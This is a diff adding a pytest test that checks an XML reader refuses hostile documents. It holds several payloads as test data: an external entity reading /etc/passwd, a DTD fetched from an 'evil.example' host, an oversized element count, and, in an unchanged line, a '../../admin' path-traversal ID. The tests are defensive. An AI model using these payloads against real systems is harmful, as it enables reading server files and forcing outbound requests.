@@ -132,6 +132,25 @@ def test_what_is_broken_or_hostile_is_refused_and_nothing_else_happens(data: byt
             reading(data)
 
 
+ANSWER = "<a><QueryID>1</QueryID><Value>{}</Value></a>"
+
+
+@pytest.mark.parametrize(
+    ("before", "value"),
+    [
+        ('<!DOCTYPE x [<!ENTITY a "hemligt">]>', "&a;"),
+        ('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"),
+        ('<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">', "b"),
+        ("", "<b>" * 60 + "</b>" * 60),
+        ("", "<b/>" * 200_001),
+    ],
+)
+def test_an_instance_that_is_right_but_for_this_is_refused_all_the_same(before: str, value: str):
+    assert read(filed(ANSWER.format("b"))).fields == {"a": "b"}
+    with pytest.raises(NotUnderstoodError):
+        instance((before + filed(ANSWER.format(value))).encode())
+
+
 def test_an_id_that_is_no_number_never_becomes_part_of_an_address():
     with pytest.raises(NotUnderstoodError):
         read(filed("").replace("<FlowInstanceID>77<", "<FlowInstanceID>../../admin<"))
